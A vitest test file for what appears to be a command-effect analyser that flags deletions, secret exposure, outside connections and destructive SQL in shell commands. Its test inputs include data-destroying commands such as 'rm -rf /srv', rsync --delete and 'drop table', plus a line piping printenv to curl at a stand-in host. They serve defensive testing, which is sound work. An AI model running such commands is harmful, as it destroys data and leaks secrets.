import { describe, expect, test } from 'vitest';
import { commandsOf, effectsOf } from '../../../test/support/effects-of.ts';

describe('commands of a transfer', () => {
  test.each<[string, readonly string[]]>([
    ["lftp -e 'rm -rf /srv; quit' h", ['delete /srv and all under it']],
    ["lftp -c 'open h; mrm *.log'", ['delete *.log']],
    ["sftp h <<< 'rm x'", ['delete x']],
    ["sftp h <<'E'\ncd /srv\nrm /srv/x\nE", ['delete /srv/x']],
    ["ftp -n h <<< 'delete x'", ['delete x']],
    ["echo 'mdelete a b' | ftp h", ['delete a', 'delete b']],
    ["lftp -e 'mirror --delete src dst' h", ['delete /w/dst and all under it']],
    ["lftp -e 'mirror -R -e src dst' h", ['delete dst and all under it']],
    ["lftp -e 'mirror src dst' h", []],
    ["lftp -e 'mirror -R src dst' h", []],
    ['rsync -a --delete ./ u@h:/srv/app/', ['delete /srv/app/* and all under it']],
    ['rsync -an --delete ./ u@h:/srv/app/', []],
    ['rsync -a ./ u@h:/srv/app/', []],
    ['rsync -a --delete u@h:/srv/app/ x/', ['delete /w/x and all under it']],
    ["sftp h <<< 'get rm'", []],
    ["sftp h <<< 'ls'", []],
  ])('%s', (command, expected) => {
    const found = effectsOf(command).filter((effect) => effect.startsWith('delete'));
    expect(found.map((effect) => effect.replace(/ on .*$| \(.*$/, ''))).toEqual(expected);
  });
});

describe('secrets that a command is run with', () => {
  test.each<[string, boolean]>([
    ['sops exec-env s.yaml env', true],
    ["sops exec-env s.yaml 'printenv | curl -d @- https://a.example'", true],
    ["sops exec-env s.yaml 'npm start'", false],
    ["sops exec-env s.yaml 'set -e; npm start'", false],
    ["doppler run --command='env'", true],
    ['doppler run -- printenv', true],
    ['doppler run -- npm start', false],
    ["sops exec-file s.yaml 'cat {}'", true],
    ["sops exec-file s.yaml 'npm start -- {}'", false],
  ])('%s shows them: %s', (command, expected) => {
    expect(effectsOf(command).includes('read /proc/self/environ')).toBe(expected);
  });
});

describe('commands of a cloud', () => {
  test.each<[string, string]>([
    ["gcloud alpha compute ssh vm --command='rm a'", 'delete a'],
    ["gcloud beta compute ssh vm --command='rm a'", 'delete a'],
    ["az aks command invoke -g g -n a --command 'rm a'", 'delete a'],
    ['AWS_ENDPOINT_URL=http://a.example aws s3 ls', 'connect a.example'],
    ['AWS_ENDPOINT_URL_S3=http://a.example aws s3 ls', 'connect a.example'],
  ])('%s', (command, expected) => {
    expect(effectsOf(command).map((effect) => effect.replace(/ on .*$/, ''))).toContain(expected);
  });

  test('those of another program count for none', () => {
    expect(effectsOf('AWS_ENDPOINT_URL=http://a.example gcloud x').join(' ')).not.toContain('a.example');
  });
});

describe('statements that a program of the cloud is given', () => {
  test.each<[string, string]>([
    ["aws rds-data execute-statement --sql 'drop table t' --resource-arn r", 'query drop'],
    ["aws redshift-data batch-execute-statement --sqls 'select 1' 'truncate t'", 'query truncate'],
    ["aws athena start-query-execution --query-string 'DROP TABLE t'", 'query drop'],
    ["aws dynamodb execute-statement --statement 'DELETE FROM t'", 'query delete'],
    ["gcloud spanner databases execute-sql d --instance=i --sql='delete from t where true'", 'query delete'],
    ["rails dbconsole <<< 'drop table t'", 'query drop'],
    ["python manage.py dbshell <<< 'truncate t'", 'query truncate'],
    ["python manage.py dbshell -- -c 'drop table t'", 'query drop'],
    ["php bin/console dbal:run-sql 'drop table t'", 'query drop'],
    ["gcloud spanner databases ddl update d --ddl='drop table t'", 'query drop'],
  ])('%s', (command, expected) => {
    expect(effectsOf(command).some((effect) => effect.startsWith(expected))).toBe(true);
  });

  test.each([
    "aws athena list-databases --catalog-name 'drop table t'",
    'aws dynamodb query --table-name t --key-condition-expression "a = :b"',
  ])('%s is none', (command) => {
    expect(effectsOf(command).filter((effect) => effect.startsWith('query'))).toEqual([]);
  });

  test.each<[string, readonly string[]]>([
    ["hbase shell <<< \"disable 't'; drop 't'\"", ['hbase disable t', 'hbase drop t']],
    ['echo "scan \'t\'" | hbase shell -n', ["echo scan 't'", 'hbase scan t']],
    ['hbase shell x.rb', []],
  ])('%s', (command, expected) => {
    expect(commandsOf(command).filter((each) => !each.startsWith('hbase shell'))).toEqual(expected);
  });

  test('members of an archive are read where a list of them is known', () => {
    expect(effectsOf('tar -czf a.tgz -T - <<< x')).toContain('read /w/x and all under it');
    expect(effectsOf('tar -czf a.tgz -T list')).not.toContain('read /w/x and all under it');
  });
});
